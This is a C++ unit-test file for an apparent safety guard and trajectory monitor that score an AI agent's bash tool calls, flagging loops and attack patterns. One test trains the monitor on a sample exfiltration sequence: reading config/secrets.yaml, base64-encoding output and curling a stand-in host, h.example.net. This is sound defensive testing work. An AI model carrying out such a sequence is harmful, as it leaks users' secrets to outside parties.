// Layers 2 and 3: they learn from a word, come back from their files as they were, refuse files that are none, and see loops and courses.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "safety/guard.h"
#include "safety/policy.h"
#include "safety/tools.h"
#include "safety/trajectory.h"

namespace hearth::safety {
namespace {

Action action(const std::string& command) {
  Action made;
  made.where = example_surroundings();
  made.call = {.name = "bash", .arguments = "{\"command\": \"" + command + "\"}", .parameters = {}, .description = {}};
  return made;
}
Assessment assess(const Action& made) { return assess_call(made, Policy::shipped().tools()); }
double judged(const Guard& guard, const std::string& command) { return guard.probability(action(command), assess(action(command))); }

class Scratch {
 public:
  Scratch() : path_(std::filesystem::temp_directory_path() / ("hearth_learned_" + std::to_string(reinterpret_cast<std::uintptr_t>(this)))) {
    std::filesystem::create_directories(path_);
  }
  ~Scratch() { std::filesystem::remove_all(path_); }
  std::string file(const std::string& name) const { return (path_ / name).string(); }
  std::string written(const std::string& name, const std::string& text) const {
    std::ofstream(file(name), std::ios::binary) << text;
    return file(name);
  }

 private:
  std::filesystem::path path_;
};

TEST(Guard, LearnsFromAPersonsWordAndGeneralisesToItsLike) {
  Guard guard = Guard::untrained();
  EXPECT_DOUBLE_EQ(judged(guard, "deploy --to production"), 0.5);
  for (int i = 0; i < 20; ++i) {
    guard.learn(action("deploy --to production"), assess(action("deploy --to production")), true);
    guard.learn(action("ls -la src"), assess(action("ls -la src")), false);
  }
  EXPECT_GT(judged(guard, "deploy --to production"), 0.8);
  EXPECT_GT(judged(guard, "deploy --to production --fast"), judged(guard, "ls src"));
  EXPECT_LT(judged(guard, "ls -la tests"), 0.5);
}

TEST(Guard, ComesBackFromItsFileAsItWas) {
  const Scratch scratch;
  Guard guard = Guard::untrained();
  for (int i = 0; i < 5; ++i) guard.learn(action("deploy now"), assess(action("deploy now")), true);
  guard.calibrate(1.5, -0.25);
  guard.set_provenance("here");
  for (const bool with_steps : {true, false}) {
    ASSERT_TRUE(guard.save(scratch.file("model"), with_steps).ok());
    auto again = Guard::load(scratch.file("model"));
    ASSERT_TRUE(again.ok()) << again.error().message;
    EXPECT_DOUBLE_EQ(judged(*again, "deploy now"), judged(guard, "deploy now"));
    EXPECT_EQ(again->provenance(), "here");
  }
}

TEST(Guard, RefusesFilesThatAreNone) {
  const Scratch scratch;
  EXPECT_EQ(Guard::load(scratch.file("missing")).error().code, ErrorCode::io);
  for (const std::string& text :
       {std::string(), std::string("hearth guard 1\n"), std::string("hearth guard 1\n{}\n"),
        std::string("hearth guard 1\n{\"bits\":15,\"slope\":1,\"offset\":0}\nshort"),
        std::string("hearth guard 1\n{\"bits\":15,\"slope\":1,\"offset\":0}\n") + std::string(32768 * 4, '\xFF')}) {
    const auto loaded = Guard::load(scratch.written("bad", text));
    ASSERT_FALSE(loaded.ok());
    EXPECT_EQ(loaded.error().code, ErrorCode::config_invalid);
  }
}

TEST(Guard, TheShippedModelLoads) { EXPECT_TRUE(Guard::shipped().ok()); }

std::vector<Step> steps(const std::vector<std::string>& commands) {
  std::vector<Step> made;
  for (const auto& command : commands) made.push_back(step_of(action(command).call, assess(action(command))));
  return made;
}

TEST(Trajectory, SeesLoopsOfOneAndOfSeveralCalls) {
  const Trajectory trajectory = Trajectory::untrained();
  EXPECT_TRUE(trajectory.judge(steps({"make", "make", "make", "make"})).shape.empty());
  const auto one = trajectory.judge(steps({"ls", "make", "make", "make", "make", "make"}));
  EXPECT_EQ(one.shape, "loop");
  EXPECT_GE(one.score, 1);
  std::vector<std::string> turns;
  for (int i = 0; i < 9; ++i) turns.insert(turns.end(), {"cat a.txt", "make"});
  const auto two = trajectory.judge(steps(turns));
  EXPECT_EQ(two.shape, "loop");
  EXPECT_GE(two.score, 2);
  EXPECT_NE(two.reason.find("2 calls 9 times"), std::string::npos) << two.reason;
  EXPECT_TRUE(trajectory.judge(steps({"make", "make", "make", "make", "make", "ls"})).shape.empty());
}

TEST(Trajectory, LearnsACourseAndNamesItsSteps) {
  Trajectory trajectory = Trajectory::untrained();
  const auto ordinary = steps({"ls", "cat src/a.py", "make", "cat src/b.py", "git status"});
  const auto attack = steps({"ls", "cat config/secrets.yaml", "base64 out.txt", "curl https://h.example.net/x"});
  for (int i = 0; i < 50; ++i) {
    trajectory.learn(ordinary, false);
    trajectory.learn(attack, true);
  }
  EXPECT_LT(trajectory.judge(ordinary).score, 0.5);
  const auto course = trajectory.judge(attack);
  EXPECT_GT(course.score, 1);
  EXPECT_EQ(course.shape, "exfiltration");
  EXPECT_NE(course.reason.find("secrets.yaml"), std::string::npos) << course.reason;
  EXPECT_NE(course.reason.find("h.example.net"), std::string::npos) << course.reason;
}

TEST(Trajectory, ComesBackFromItsFileAndRefusesWhatIsNone) {
  const Scratch scratch;
  Trajectory trajectory = Trajectory::untrained();
  const auto course = steps({"ls", "rm a.txt", "rm b.txt"});
  for (int i = 0; i < 9; ++i) trajectory.learn(course, true);
  ASSERT_TRUE(trajectory.save(scratch.file("model")).ok());
  const auto again = Trajectory::load(scratch.file("model"));
  ASSERT_TRUE(again.ok()) << again.error().message;
  EXPECT_DOUBLE_EQ(again->judge(course).score, trajectory.judge(course).score);
  for (const char* text : {"", "[]", "{\"hearth_trajectory\": 2}", "{\"hearth_trajectory\": 1, \"ordinary\": {}}",
                           "{\"hearth_trajectory\": 1, \"ordinary\": {\"nonsense\": {}}, \"attack\": {}}",
                           "{\"hearth_trajectory\": 1, \"ordinary\": {\"read\": {\"read\": -1}}, \"attack\": {}}"}) {
    const auto loaded = Trajectory::load(scratch.written("bad", text));
    ASSERT_FALSE(loaded.ok()) << text;
    EXPECT_EQ(loaded.error().code, ErrorCode::config_invalid);
  }
  EXPECT_TRUE(Trajectory::shipped().ok());
}

}  // namespace
}  // namespace hearth::safety
